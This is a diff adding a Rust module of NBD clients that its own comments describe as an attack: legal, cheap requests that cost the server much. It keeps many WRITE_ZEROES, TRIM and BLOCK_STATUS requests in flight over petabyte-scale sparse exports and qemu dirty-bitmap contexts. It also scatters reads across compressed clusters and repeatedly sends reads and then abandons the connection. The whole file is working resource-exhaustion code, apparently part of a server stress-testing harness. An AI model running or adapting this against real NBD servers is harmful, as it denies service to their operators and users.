@@ -1,0 +1,204 @@
+//! Clients of NBD whose requests are legal and small, and cost the server much.
+
+use std::io::{self, Read, Write};
+use std::os::unix::net::UnixStream;
+
+use crate::clients::{greeted, option};
+use crate::images::{BITMAPS, COMPRESSED};
+use crate::{GoOn, Target};
+
+const READ: u16 = 0;
+const TRIM: u16 = 4;
+const WRITE_ZEROES: u16 = 6;
+const BLOCK_STATUS: u16 = 7;
+const GO: u32 = 7;
+const STRUCTURED_REPLY: u32 = 8;
+const SET_META_CONTEXT: u32 = 10;
+const STRUCTURED: u32 = 0x668e_33ef;
+/// Requests in flight, where it is not the attack's own number.
+const DEPTH: u64 = 128;
+/// The longest request that is a multiple of a cluster of 64 KiB.
+const LONGEST: u32 = 0xffff_0000;
+
+struct Client<'a> {
+    stream: UnixStream,
+    go_on: &'a GoOn,
+}
+
+impl<'a> Client<'a> {
+    /// A client of an export, with these metadata contexts; without any, replies are simple.
+    fn of(
+        target: &Target,
+        export: &str,
+        contexts: &[String],
+        go_on: &'a GoOn,
+    ) -> io::Result<Client<'a>> {
+        let mut client = Client { stream: greeted(&target.nbd)?, go_on };
+        let name = [&(export.len() as u32).to_be_bytes()[..], export.as_bytes()].concat();
+        if !contexts.is_empty() {
+            client.stream.write_all(&option(STRUCTURED_REPLY, b""))?;
+            client.until_acknowledged()?;
+            let mut queries = [&name[..], &(contexts.len() as u32).to_be_bytes()].concat();
+            for context in contexts {
+                queries.extend((context.len() as u32).to_be_bytes());
+                queries.extend(context.as_bytes());
+            }
+            client.stream.write_all(&option(SET_META_CONTEXT, &queries))?;
+            client.until_acknowledged()?;
+        }
+        client.stream.write_all(&option(GO, &[&name[..], &[0, 0]].concat()))?;
+        client.until_acknowledged()?;
+        Ok(client)
+    }
+
+    /// Takes replies of an option until its end.
+    fn until_acknowledged(&mut self) -> io::Result<()> {
+        loop {
+            let mut head = [0; 20];
+            self.take(&mut head)?;
+            let [.., a, b, c, d, e, f, g, h] = head;
+            let (kind, len) = (u32::from_be_bytes([a, b, c, d]), u32::from_be_bytes([e, f, g, h]));
+            self.skip(len.into())?;
+            match kind {
+                1 => return Ok(()),
+                2.. if kind >> 31 == 1 => return Err(io::ErrorKind::Unsupported.into()),
+                _ => (),
+            }
+        }
+    }
+
+    /// Reads all of that. A slow server gets its time, for as long as the attack is wanted.
+    fn take(&mut self, mut buffer: &mut [u8]) -> io::Result<()> {
+        while !buffer.is_empty() {
+            match self.stream.read(buffer) {
+                Ok(0) => return Err(io::ErrorKind::UnexpectedEof.into()),
+                Ok(count) => buffer = &mut buffer[count..],
+                Err(error)
+                    if error.kind() == io::ErrorKind::WouldBlock && self.go_on.is_wanted() =>
+                {
+                    ()
+                }
+                Err(error) => return Err(error),
+            }
+        }
+        Ok(())
+    }
+
+    fn skip(&mut self, mut bytes: u64) -> io::Result<()> {
+        let mut buffer = vec![0; bytes.min(1 << 20) as usize];
+        while bytes > 0 {
+            let part = bytes.min(buffer.len() as u64);
+            self.take(&mut buffer[..part as usize])?;
+            bytes -= part;
+        }
+        Ok(())
+    }
+
+    fn send(&mut self, request: &Request, cookie: u64) -> io::Result<()> {
+        let head =
+            [&0x2560_9513u32.to_be_bytes()[..], &[0, 0], &request.kind.to_be_bytes()].concat();
+        let place = [request.at.to_be_bytes(), cookie.to_be_bytes()];
+        let [at, cookie] = place;
+        self.stream.write_all(&[&head[..], &cookie, &at, &request.len.to_be_bytes()].concat())
+    }
+
+    /// Takes a reply to one of several equal requests, all of it.
+    fn reply(&mut self, request: &Request) -> io::Result<()> {
+        loop {
+            let mut head = [0; 16];
+            self.take(&mut head)?;
+            let [a, b, c, d, e, ..] = head;
+            if u32::from_be_bytes([a, b, c, d]) != STRUCTURED {
+                let error = u32::from_be_bytes([head[4], head[5], head[6], head[7]]);
+                let data = if request.kind == READ && error == 0 { request.len } else { 0 };
+                return self.skip(data.into());
+            }
+            let mut len = [0; 4];
+            self.take(&mut len)?;
+            self.skip(u32::from_be_bytes(len).into())?;
+            // The flags' high byte is empty.
+            let is_last = (u16::from_be_bytes([e, head[5]]) & 1) == 1;
+            if is_last {
+                return Ok(());
+            }
+        }
+    }
+
+    /// Keeps that many requests in flight, which differ in where they begin.
+    fn keep(&mut self, depth: u64, request: impl Fn(u64) -> Request) -> io::Result<()> {
+        for cookie in 0..depth {
+            self.send(&request(cookie), cookie)?;
+        }
+        for cookie in depth.. {
+            self.reply(&request(0))?;
+            if !self.go_on.blow() {
+                break;
+            }
+            self.send(&request(cookie), cookie)?;
+        }
+        Ok(())
+    }
+}
+
+struct Request {
+    kind: u16,
+    at: u64,
+    len: u32,
+}
+
+/// Requests over all of a disk of that many bytes.
+fn everywhere(size: u64, kind: u16) -> impl Fn(u64) -> Request {
+    let places = size / u64::from(LONGEST);
+    move |cookie| Request { kind, at: cookie % places * u64::from(LONGEST), len: LONGEST }
+}
+
+const SPARSE: u64 = 2 << 50;
+const WITH_BITMAPS: u64 = 16 << 40;
+
+pub(crate) fn zeroes(target: &Target, go_on: &GoOn) -> io::Result<()> {
+    Client::of(target, "sparse", &[], go_on)?.keep(DEPTH, everywhere(SPARSE, WRITE_ZEROES))
+}
+
+pub(crate) fn trims(target: &Target, go_on: &GoOn) -> io::Result<()> {
+    Client::of(target, "sparse", &[], go_on)?.keep(DEPTH, everywhere(SPARSE, TRIM))
+}
+
+pub(crate) fn status(target: &Target, go_on: &GoOn) -> io::Result<()> {
+    let contexts = ["base:allocation".to_owned()];
+    Client::of(target, "sparse", &contexts, go_on)?.keep(DEPTH, everywhere(SPARSE, BLOCK_STATUS))
+}
+
+pub(crate) fn bitmaps(target: &Target, go_on: &GoOn) -> io::Result<()> {
+    let contexts: Vec<_> = (0..BITMAPS).map(|i| format!("qemu:dirty-bitmap:b{i}")).collect();
+    let mut client = Client::of(target, "bitmaps", &contexts, go_on)?;
+    client.keep(DEPTH, everywhere(WITH_BITMAPS, BLOCK_STATUS))
+}
+
+/// Reads of a sector, each in another cluster than the one before.
+fn sectors(cluster: u64) -> impl Fn(u64) -> Request {
+    let places = COMPRESSED / cluster;
+    move |cookie| Request { kind: READ, at: cookie % places * cluster, len: 512 }
+}
+
+/// In flight, so that each server's request buffers take them.
+const READS: u64 = 42;
+
+pub(crate) fn deflate(target: &Target, go_on: &GoOn) -> io::Result<()> {
+    Client::of(target, "deflate", &[], go_on)?.keep(READS, sectors(64 << 10))
+}
+
+pub(crate) fn zstd(target: &Target, go_on: &GoOn) -> io::Result<()> {
+    Client::of(target, "zstd", &[], go_on)?.keep(READS, sectors(2 << 20))
+}
+
+pub(crate) fn read_and_leave(target: &Target, go_on: &GoOn) -> io::Result<()> {
+    loop {
+        let mut client = Client::of(target, "hostile", &[], go_on)?;
+        for cookie in 0..20 {
+            client.send(&Request { kind: READ, at: cookie << 20, len: 1 << 20 }, cookie)?;
+        }
+        if !go_on.blow() {
+            return Ok(());
+        }
+    }
+}
